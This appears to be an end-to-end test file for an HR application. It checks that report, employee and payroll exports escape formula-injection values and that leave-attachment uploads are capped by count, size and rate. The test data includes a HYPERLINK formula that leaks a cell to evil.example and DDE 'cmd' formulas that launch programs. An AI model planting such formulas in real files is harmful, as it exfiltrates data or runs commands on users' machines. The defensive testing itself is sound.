/**
 * Files the product writes and receives. Every CSV and XLSX it writes (the reports, their
 * scheduled e-mails, the employee and payroll exports) holds a name a spreadsheet would run as a
 * formula as inert text; leave attachments are bounded per employee and removed when no request
 * uses them.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { Employee } from '../src/modules/employees/employee.entity';
import { LeaveAttachmentsService } from '../src/modules/leave/leave-attachments.service';
import { ScheduledReportsJob } from '../src/modules/reports/schedule/scheduled-reports.job';
import { createTestApp, type TestApp } from './support/app';
import { bearer, createCompany, createUser, grant, login, type CompanyFixture } from './support/fixtures';

const PAYLOAD = '=HYPERLINK("http://evil.example/?d="&C2,"John")';
/** Names that start like a formula, one per kind of lead character. */
const DEPARTMENT = '@SUM(1+1)*cmd|" /C calc"!A0';
const LEAVE_TYPE = '+cmd|" /C notepad"!A0';
const POSITION = '-2+3+cmd|" /C calc"!A0';

const binary = (res: any, cb: (err: Error | null, body: Buffer) => void) => {
  const chunks: Buffer[] = [];
  res.on('data', (c: Buffer) => chunks.push(c));
  res.on('end', () => cb(null, Buffer.concat(chunks)));
};

/** A CSV cell a spreadsheet would run: a formula lead, and not a figure such as -12.50 or +1 555 0100. */
const live = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^[+-][\d\s().,-]*$/.test(cell);

describe('files the product writes and receives', () => {
  let t: TestApp;
  let a: CompanyFixture;
  let admin: Record<string, string>;
  const sql = (query: string, params: unknown[] = []) => t.em().execute(query, params);

  beforeAll(async () => {
    t = await createTestApp();
    a = await createCompany(t, 'Files');
    admin = bearer(a.tokens.company_admin);
    const c = a.company.id;
    await sql(`update employees set first_name = ?, salary = '60000.00', hire_date = '2024-01-01' where id = ?`, [PAYLOAD, a.employee.id]);
    await sql(`update departments set department_name = ? where id = ?`, [DEPARTMENT, a.department.id]);
    await sql(`update positions set position_title = ? where id = ?`, [POSITION, a.position.id]);
    await sql(`insert into leave_types (company_id, type_name, type_code, max_days_per_year) values (?, ?, 'EV', 20)`, [c, LEAVE_TYPE]);
    await sql(`insert into attendance_records (company_id, employee_id, attendance_date, status, work_hours) values (?, ?, '2026-03-02', 'present', '8.00')`, [
      c,
      a.employee.id,
    ]);
    const payroll = await t.http().post('/api/hr/payroll').set(admin).send({ year: 2026, month: 3 });
    expect(payroll.status).toBe(201);
  });

  afterAll(() => t?.close());

  describe('formula injection', () => {
    /** Every cell of a CSV, its header too. */
    const csvCells = (text: string): string[] => (parse(text, { bom: true, relax_column_count: true }) as string[][]).flat();
    const expectInert = (where: string, cells: string[]) => {
      expect({ where, live: cells.filter(live) }).toEqual({ where, live: [] });
    };

    it('writes no live formula in any report, as CSV or XLSX, whatever the grouping', async () => {
      const list = await t.http().get('/api/reports').set(admin);
      expect(list.status).toBe(200);
      const reports: { id: string; group_by_options: { id: string }[] }[] = list.body.data;
      expect(reports.length).toBeGreaterThan(5);
      const seen = new Set<string>();
      for (const r of reports) {
        const groupings = r.group_by_options.length ? r.group_by_options.map((g) => g.id) : [undefined];
        for (const group_by of groupings) {
          const query = { from: '2026-01-01', to: '2026-12-31', at: '2026-06-01', ...(group_by ? { group_by } : {}) };
          const where = `${r.id}${group_by ? ` by ${group_by}` : ''}`;
          const csv = await t.http().get(`/api/reports/${r.id}/export`).query({ ...query, format: 'csv' }).set(admin);
          expect({ where, status: csv.status }).toEqual({ where, status: 200 });
          const cells = csvCells(csv.text);
          expectInert(`${where} (csv)`, cells);
          for (const cell of cells) if (/HYPERLINK|cmd\|/.test(cell)) seen.add(cell);

          const xlsx = await t.http().get(`/api/reports/${r.id}/export`).query({ ...query, format: 'xlsx' }).set(admin).buffer(true).parse(binary);
          expect({ where, status: xlsx.status }).toEqual({ where, status: 200 });
          const book = new ExcelJS.Workbook();
          await book.xlsx.load(xlsx.body);
          book.eachSheet((sheet) =>
            sheet.eachRow((row) =>
              row.eachCell((cell) => {
                // a text that looks like a formula is stored as text, never as a formula
                expect({ where: `${where} (xlsx) ${cell.address}`, formula: cell.formula ?? null }).toEqual({ where: `${where} (xlsx) ${cell.address}`, formula: null });
                if (typeof cell.value === 'string' && /HYPERLINK/.test(cell.value)) expect(cell.type).toBe(ExcelJS.ValueType.String);
              }),
            ),
          );
        }
      }
      // the names did reach the files, guarded with a leading apostrophe
      expect(seen).toContain(`'${PAYLOAD} Files (E001)`);
      expect([...seen].some((cell) => cell === `'${DEPARTMENT}`)).toBe(true);
      expect([...seen].some((cell) => cell === `'${LEAVE_TYPE}`)).toBe(true);
    });

    it('keeps figures as figures: money and negative amounts are not guarded', async () => {
      const csv = await t.http().get('/api/reports/payroll-cost/export').query({ from: '2026-03-01', to: '2026-03-31', format: 'csv' }).set(admin);
      const rows: string[][] = parse(csv.text, { bom: true });
      expect(rows[1].slice(-1)[0]).toMatch(/^\d+\.\d{2}$/);
    });

    it('sends the scheduled e-mail attachment inert', async () => {
      const created = await t.http().post('/api/reports/subscriptions').set(admin).send({
        report_id: 'leave-balances',
        frequency: 'monthly',
        format: 'csv',
        recipients: [a.admin.email],
        group_by: 'employee',
      });
      expect(created.status).toBe(201);
      await sql(`update report_subscriptions set next_run_at = '2026-03-01T07:00:00Z' where id = ?`, [created.body.data.id]);
      const result = await t.app.get(ScheduledReportsJob).run(new Date('2026-03-01T07:10:00Z'));
      expect(result.sent).toBeGreaterThanOrEqual(1);
      const [notice] = await sql(
        `select convert_from(attachment, 'UTF8') as file from notifications where topic = 'reports' and user_id = ? and attachment_name like 'leave-balances%'`,
        [a.admin.id],
      );
      const cells = csvCells(notice.file);
      expectInert('scheduled leave balances', cells);
      expect(cells).toContain(`'${PAYLOAD} Files (E001)`);
    });

    it('exports employees and payroll inert', async () => {
      const employees = await t.http().get('/api/hr/employees/export').set(admin);
      expect(employees.status).toBe(200);
      const cells = csvCells(employees.text);
      expectInert('employees', cells);
      expect(cells).toContain(`'${PAYLOAD}`);
      expect(cells).toContain(`'${DEPARTMENT}`);
      expect(cells).toContain(`'${POSITION}`);

      const payroll = await t.http().get('/api/hr/payroll/export').query({ year: 2026, month: 3 }).set(admin);
      expect(payroll.status).toBe(200);
      const rows: string[][] = parse(payroll.text, { bom: true });
      expectInert('payroll', rows.flat());
      expect(rows[1][1]).toBe(`'${PAYLOAD} Files`);
      expect(rows[1][2]).toBe(`'${DEPARTMENT}`);
      expect(rows[1][5]).toMatch(/^\d+\.\d{2}$/);
    });
  });

  describe('leave attachments', () => {
    const PDF = Buffer.from('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n', 'latin1');
    const MB = 1024 * 1024;
    const upload = (headers: Record<string, string>, content: Buffer = PDF) =>
      t.http().post('/api/hr/leave-requests/attachments').set(headers).attach('file', content, { filename: 'note.pdf', contentType: 'application/pdf' });
    /** A new employee of the company who may request leave, signed in. */
    const person = async () => {
      const e = await sql(
        `insert into employees (company_id, employee_code, first_name, last_name, email, position_id, department_id)
         values (?, 'U' || floor(random() * 1e9)::text, 'Up', 'Loader', 'up' || floor(random() * 1e9)::text || '@test.example.com', ?, ?) returning id`,
        [a.company.id, a.position.id, a.department.id],
      );
      const em = t.em();
      const user = await createUser(em, 'employee', { company: a.company, employee: em.getReference(Employee, e[0].id) });
      return { userId: user.id, headers: bearer(await login(t, user.email)) };
    };

    beforeAll(async () => {
      await grant(t, { position: a.position }, a.company, 'leave', { can_view: true, can_create: true });
    });

    it('holds at most 5 files no request uses per person (413, in words), then frees them after 6 hours', async () => {
      const me = await person();
      const ids: number[] = [];
      for (let i = 0; i < 5; i++) {
        const up = await upload(me.headers);
        expect(up.status).toBe(201);
        ids.push(up.body.data.id);
      }
      const sixth = await upload(me.headers);
      expect(sixth.status).toBe(413);
      expect(sixth.body.message).toBe(
        'You have 5 uploaded files that no leave request uses yet; use them in a request or wait, files not used within 6 hours are deleted',
      );
      expect(sixth.body.errors).toEqual([{ field: 'file', message: sixth.body.message }]);
      const [{ n }] = await sql(`select count(*)::int as n from leave_attachments where uploaded_by_id = ?`, [me.userId]);
      expect(n).toBe(5);

      // one is used by a request, the others are left alone for 7 hours
      const [type] = await sql(`insert into leave_types (company_id, type_name, type_code, max_days_per_year) values (?, 'Files', 'FI', 5) returning id`, [a.company.id]);
      const [mine] = await sql(`select employee_id from users where id = ?`, [me.userId]);
      await sql(
        `insert into leave_requests (company_id, employee_id, leave_type_id, start_date, end_date, total_days, status, attachment_id) values (?, ?, ?, '2030-01-07', '2030-01-07', 1, 'pending', ?)`,
        [a.company.id, mine.employee_id, type.id, ids[0]],
      );
      await sql(`update leave_attachments set created_at = now() - interval '7 hours' where id in (?, ?, ?, ?, ?)`, ids);
      await t.app.get(LeaveAttachmentsService).hourly();
      const left = await sql(`select id from leave_attachments where uploaded_by_id = ? order by id`, [me.userId]);
      expect(left.map((r) => r.id)).toEqual([ids[0]]);
      expect((await t.http().get(`/api/hr/leave-requests/attachments/${ids[1]}`).set(me.headers)).status).toBe(404);
      expect((await upload(me.headers)).status).toBe(201);
    });

    it('holds at most 15 MB no request uses per person (413, in words)', async () => {
      const me = await person();
      const big = Buffer.concat([PDF, Buffer.alloc(5 * MB - PDF.length - 1024)]);
      for (let i = 0; i < 3; i++) expect((await upload(me.headers, big)).status).toBe(201);
      const fourth = await upload(me.headers, big);
      expect(fourth.status).toBe(413);
      expect(fourth.body.message).toBe(
        'Your uploaded files that no leave request uses yet would exceed 15 MB; use them in a request or wait, files not used within 6 hours are deleted',
      );
      // a small one still fits
      expect((await upload(me.headers)).status).toBe(201);
      // the company's admin sees the bytes the company stores
      const [{ bytes }] = await sql(`select sum(size_bytes)::bigint as bytes from leave_attachments where company_id = ?`, [a.company.id]);
      expect(Number(bytes)).toBeGreaterThan(14 * MB);
      const subscription = await t.http().get('/api/packages/subscription').set(admin);
      expect(subscription.status).toBe(200);
      expect(subscription.body.data.files_bytes).toBe(Number(bytes));
    });

    it('takes at most 20 uploads an hour per person (429, in words)', async () => {
      const me = await person();
      // 20 uploads in the last hour
      for (let i = 0; i < 20; i++) {
        await sql(`insert into leave_attachments (company_id, file_name, content_type, size_bytes, content, uploaded_by_id, created_at) values (?, 'x.pdf', 'application/pdf', 1, '\\x25', ?, now() - interval '30 minutes')`, [
          a.company.id,
          me.userId,
        ]);
      }
      const res = await upload(me.headers);
      expect(res.status).toBe(429);
      expect(res.body.message).toBe('You can upload at most 20 files an hour; try again later');
      // an hour later (and past the time unused files are kept) the person uploads again
      await sql(`update leave_attachments set created_at = now() - interval '7 hours' where uploaded_by_id = ?`, [me.userId]);
      expect((await upload(me.headers)).status).toBe(201);
    });
  });
});
